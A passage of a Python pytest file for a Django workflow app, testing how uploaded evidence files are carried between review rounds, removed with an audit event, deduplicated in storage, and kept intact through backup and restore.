    client: Any, personas: dict[str, Any], lead_step: Step, evidence_root: Path
) -> None:
    # Given a file of round 1 carried into the returned round 2
    client.force_login(personas["staff"])
    assert upload(client, lead_step, "Kế hoạch.pdf", PDF).status_code == 302
    first = Evidence.objects.get(step=lead_step)
    second = return_to_lead(lead_step, personas)
    carried = Evidence.objects.get(step=second)

    # When the author removes it in round 2
    url = reverse("workflow:step", args=[second.pk])
    assert client.post(url, {"action": "remove_evidence", "evidence": carried.pk}).status_code == 302

    # Then round 2 has no file, round 1 still has its own, and the stored file stays
    carried.refresh_from_db()
    first.refresh_from_db()
    assert (carried.removed_by, first.removed_at) == (personas["staff"], None)
    assert [p.name for p in files_under(evidence_root)] == [first.stored_name]
    event = AuditEvent.objects.get(action="evidence_removed", step=second)
    assert event.data == {"name": "Kế hoạch.pdf", "sha256": first.sha256, "carried_from": first.pk}
    assert "Chưa có tệp nào." in client.get(url).content.decode()
    # and round 1's file still downloads for whoever may read it
    client.force_login(personas["auditor"])
    response = client.get(reverse("workflow:evidence", args=[first.pk]))
    assert b"".join(response.streaming_content) == PDF


def test_a_stored_file_is_uploaded_once_carried_rows_share_it(
    personas: dict[str, Any], lead_step: Step, evidence_root: Path
) -> None:
    from django.db import IntegrityError, transaction

    stored = store(io.BytesIO(PDF), name="a.pdf", size=len(PDF))
    first = services.evidence_attach(step_id=lead_step.pk, user=personas["staff"], stored=stored)
    # a second upload row naming the same stored file is refused by the database
    with pytest.raises(IntegrityError), transaction.atomic():
        Evidence.objects.create(
            step=lead_step,
            original_name="b.pdf",
            stored_name=first.stored_name,
            content_type="application/pdf",
            size=1,
            sha256="0" * 64,
            uploaded_by=personas["staff"],
        )
    second = return_to_lead(lead_step, personas)
    assert Evidence.objects.get(step=second).stored_name == first.stored_name


@pytest.mark.django_db(transaction=True)
def test_backup_and_restore_keep_carried_files_with_their_hashes(
    personas: dict[str, Any], lead_step: Step, evidence_root: Path, tmp_path: Path
) -> None:
    import json

    from django.core.management import call_command

    # Given a file of round 1 carried into round 2
    stored = store(io.BytesIO(PDF), name="a.pdf", size=len(PDF))
    services.evidence_attach(step_id=lead_step.pk, user=personas["staff"], stored=stored)
    return_to_lead(lead_step, personas)
    rows = sorted(Evidence.objects.values_list("step_id", "stored_name", "sha256", "carried_from_id"))
    assert len(rows) == 2

    # When the site is backed up and restored
    with open("/dev/null", "w") as quiet:
        call_command("backup", "-o", str(tmp_path / "bk"), stdout=quiet)
        manifest = json.loads((tmp_path / "bk" / "manifest.json").read_text(encoding="utf-8"))
        call_command("restore", str(tmp_path / "bk"), "--no-input", stdout=quiet)

    # Then the one stored file is backed up once, with no problem, and both rows come back naming it
    assert manifest["evidence_problems"] == []
    assert [item["sha256"] for item in manifest["evidence"].values()] == [hashlib.sha256(PDF).hexdigest()]
    assert sorted(Evidence.objects.values_list("step_id", "stored_name", "sha256", "carried_from_id")) == rows
    assert (evidence_root / stored.stored_name[:2] / stored.stored_name).read_bytes() == PDF
